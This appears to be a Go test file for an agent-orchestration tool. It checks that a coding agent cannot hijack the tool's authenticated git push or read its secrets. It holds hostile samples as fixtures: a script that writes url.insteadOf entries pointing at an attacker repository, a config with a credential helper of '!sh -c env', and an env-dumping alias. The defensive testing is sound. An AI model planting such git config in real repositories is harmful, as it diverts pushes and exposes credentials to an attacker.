package agent

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gallivant/gallivant/ledger"
)

// redirectingAgent is issue 29's same-user finding as a script: the agent
// adds url.<its own>.insteadOf to gallivant's mirror configuration and to
// the global configuration of its (and gallivant's) home, so that
// gallivant's next authenticated push would go to the agent's repository.
const redirectingAgent = `#!/bin/sh
set -e
git config --file "MIRROR/config" url."EVIL".insteadOf "REMOTE"
git config --file "$HOME/.gitconfig" url."EVIL".insteadOf "REMOTE"
echo hi > hello.txt
git add hello.txt
git -c user.name=Mallory -c user.email=m@example.com commit --quiet -m "loop: row 1 done"
`

func TestMirrorGitReadsNoConfigurationTheAgentWrote(t *testing.T) {
	remote, base := remoteRepo(t)
	evil := filepath.Join(t.TempDir(), "evil.git")
	gitIn(t, filepath.Dir(evil), "init", "--quiet", "--bare", evil)
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("GIT_CONFIG_GLOBAL", "")
	os.Unsetenv("GIT_CONFIG_GLOBAL")
	work := t.TempDir()
	task := Task{Spec: "specs/feature.md", Repo: "acme/api", CloneURL: remote, Branch: "gallivant/feature", Base: "main",
		Pending: ledger.Pending{Target: 1, Member: "home", SHA: base}, Iteration: 1, Brief: "row 1"}
	e := CommandExecutor{Timeout: time.Minute, WorkDir: work}
	script := filepath.Join(t.TempDir(), "agent.sh")
	r := strings.NewReplacer("MIRROR", e.mirrorDir(task), "EVIL", evil, "REMOTE", remote)
	if err := os.WriteFile(script, []byte(r.Replace(redirectingAgent)), 0o755); err != nil {
		t.Fatal(err)
	}
	e.Argv = []string{"sh", script}
	out, err := e.Run(context.Background(), task)
	if err != nil || out.Err != nil {
		t.Fatalf("Run: %v, outcome error %v (log %s)", err, out.Err, readLog(out.Log))
	}
	if out.Commits != 1 {
		t.Fatalf("commits %d, want 1", out.Commits)
	}
	if got := exec.Command("git", "--git-dir", evil, "rev-parse", "--verify", "--quiet", "refs/heads/gallivant/feature"); got.Run() == nil {
		t.Errorf("gallivant's push went to the repository the agent's insteadOf named")
	}
	if head := gitIn(t, remote, "rev-parse", "refs/heads/gallivant/feature"); head == base {
		t.Errorf("the work branch was not pushed to the member repository")
	}
	cfg, _ := os.ReadFile(filepath.Join(e.mirrorDir(task), "config"))
	if string(cfg) != mirrorConfig {
		t.Errorf("the mirror's config after the run:\n%s\nwant gallivant's own:\n%s", cfg, mirrorConfig)
	}
}

func TestSealMirror(t *testing.T) {
	mirror := t.TempDir()
	os.WriteFile(filepath.Join(mirror, "config"), []byte(mirrorConfig+"[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n[credential]\n\thelper = !sh -c env\n"), 0o644)
	os.WriteFile(filepath.Join(mirror, "commondir"), []byte("/elsewhere\n"), 0o644)
	refused, err := sealMirror(mirror)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(refused, " ")
	for _, want := range []string{"commondir", `url.https://evil.example/.insteadof="https://github.com/"`, `credential.helper="!sh -c env"`} {
		if !strings.Contains(got, want) {
			t.Errorf("refused %q, want it to name %s", got, want)
		}
	}
	if cfg, _ := os.ReadFile(filepath.Join(mirror, "config")); string(cfg) != mirrorConfig {
		t.Errorf("config not rewritten:\n%s", cfg)
	}
	if _, err := os.Lstat(filepath.Join(mirror, "commondir")); err == nil {
		t.Errorf("commondir kept")
	}
	if refused, _ := sealMirror(mirror); len(refused) != 0 {
		t.Errorf("a sealed mirror refused %v", refused)
	}
}

// gallivant's own git gets none of gallivant's secrets in its environment
// (a same-user process could read a child's /proc/<pid>/environ), only
// the one credential it needs, and no global configuration.
func TestMirrorGitEnvironmentHoldsNoSecret(t *testing.T) {
	t.Setenv("GITHUB_TOKEN", "ghs_secret_in_env")
	t.Setenv("GALLIVANT_APP_PRIVATE_KEY", "-----BEGIN KEY-----")
	t.Setenv("GIT_CONFIG_PARAMETERS", "'url.evil.insteadof'='https://'")
	e := CommandExecutor{Token: "tok"}
	env, err := e.git(t.TempDir(), nil).out(context.Background(), "-c", "alias.e=!env", "e")
	if err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"ghs_secret_in_env", "BEGIN KEY", "url.evil"} {
		if strings.Contains(env, bad) {
			t.Errorf("gallivant's git environment holds %q", bad)
		}
	}
	for _, want := range []string{"GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1", "=Authorization: Basic "} {
		if !strings.Contains(env, want) {
			t.Errorf("gallivant's git environment lacks %q", want)
		}
	}
}
